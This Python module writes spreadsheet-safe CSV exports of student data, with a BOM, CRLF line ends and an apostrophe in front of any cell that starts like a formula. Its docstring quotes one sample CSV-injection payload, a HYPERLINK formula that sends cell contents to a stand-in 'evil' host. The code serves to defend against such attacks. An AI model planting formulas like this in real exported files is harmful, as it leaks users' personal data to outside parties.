"""CSV files for spreadsheets: UTF-8 with a BOM (Excel then reads accents right), CRLF line
ends, and no cell a spreadsheet would run as a formula.

Student text ends up here (names, comments), and a cell starting with ``=``, ``+``, ``-`` or ``@``
is a formula to Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://evil/?"&A1)`` would
send a classmate's data away when clicked. Such a cell gets a leading apostrophe, which
spreadsheets show as text (OWASP's advice for CSV injection); so do cells starting with a tab or
a line break, and ones whose first visible character is one of those signs.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_SIGNS = ("=", "+", "-", "@")
BOM = "\ufeff"


def neutralize(cell: object) -> object:
    """A cell as text a spreadsheet shows and never runs; numbers and None pass unchanged."""
    if not isinstance(cell, str) or not cell:
        return cell
    if cell.startswith(("\t", "\r", "\n")) or cell.lstrip().startswith(FORMULA_SIGNS):
        return "'" + cell
    return cell


def csv_document(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """The whole file as bytes: BOM, header, rows; every cell neutralized."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralize(cell) for cell in header])
    for row in rows:
        writer.writerow(["" if cell is None else neutralize(cell) for cell in row])
    return (BOM + buffer.getvalue()).encode("utf-8")
